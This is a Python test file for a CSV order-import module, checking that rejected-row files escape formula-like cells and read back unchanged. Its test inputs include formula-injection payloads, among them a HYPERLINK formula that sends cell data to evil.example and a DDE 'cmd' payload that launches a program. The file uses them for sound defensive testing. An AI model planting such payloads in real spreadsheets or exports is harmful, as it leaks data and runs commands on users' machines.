"""Files that a person opens in a spreadsheet have no formula, and an import reads them again as they were."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Final

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from infrastructure.imports.csv_files import read_header, records_below_header
from infrastructure.imports.order_columns import OrderColumns, OrderFile
from infrastructure.imports.order_rows import OrderRow
from infrastructure.imports.report import RejectFile
from infrastructure.imports.spreadsheet_cells import REASON, read_cell, shown_cell

FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "-1 is negative",
    "'=1",
)
NUMBERS: Final = ("-12.5", "+3", "-1e-7", "52,5", "-52,5", "0", ".5", "-.5", "+4.", "1E+5")
STARTS: Final = "=+-@\t\r\n'＝"
texts = st.text(st.sampled_from(f'{STARTS}0a.,; "') | st.characters(exclude_categories=["Cs", "Cc"]), max_size=8)


@pytest.mark.parametrize("text", FORMULAS)
def test_regression_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert shown_cell(text) == f"'{text}"
    assert read_cell(f"'{text}") == text


@pytest.mark.parametrize("text", [*NUMBERS, "anna", "", "o'hara", "'quoted'", "a=b", "52.5200,13.4049"])
def test_numbers_and_other_text_are_as_they_were(text: str) -> None:
    assert shown_cell(text) == text
    assert read_cell(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, None, True])
def test_a_value_that_is_no_text_is_no_formula(value: object) -> None:
    assert shown_cell(value) is value


@given(texts)
@settings(max_examples=500)
def test_every_text_comes_back_and_none_is_run(text: str) -> None:
    shown = shown_cell(text)
    assert isinstance(shown, str)
    assert read_cell(shown) == text
    if shown[:1] in set(STARTS) - {"'"}:
        float(shown.replace(",", "."))  # the only ones left are numbers


rows = st.lists(st.lists(texts, min_size=3, max_size=3), min_size=1, max_size=4)


@given(rows, texts.filter(lambda title: title.strip() and title not in (*REASON, "order_id", "note")))
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_regression_rejected_rows_hold_no_formula_and_an_import_reads_them_as_they_were(
    tmp_path: Path, cells: list[list[str]], title: str
) -> None:
    """``--rejects`` wrote a rider id of ``=…`` as it was, into the file that its reader corrects in a spreadsheet."""
    header = ("order_id", "note", title)
    source = OrderFile(tmp_path / "orders.csv", header, OrderColumns())
    source.path.touch()
    rejected = tmp_path / "rejected.csv"
    with RejectFile(rejected, [source]) as file:
        for line, row in enumerate(cells, start=2):
            file.add(OrderRow(source, line, row, None), "invalid_type", "=a detail that quotes the row")

    with rejected.open(encoding="utf-8", newline="") as text:
        for written in csv.reader(text):
            for cell in written:
                assert cell[:1] not in set(STARTS) - {"'"} or float(cell.replace(",", ".")) is not None

    again = OrderFile(rejected, read_header(rejected, header), OrderColumns())
    assert again.header == (*REASON, *header)
    read = [record.cells for record in records_below_header(again, lambda at: None)]
    assert [row[4:] for row in read] == cells


def test_a_file_of_others_is_read_to_the_letter(tmp_path: Path) -> None:
    file = tmp_path / "orders.csv"
    file.write_text("order_id,note,rider_id\n'=1,'-x,'anna\n")
    source = OrderFile(file, read_header(file, ("order_id",)), OrderColumns())
    assert [record.cells for record in records_below_header(source, lambda at: None)] == [["'=1", "'-x", "'anna"]]
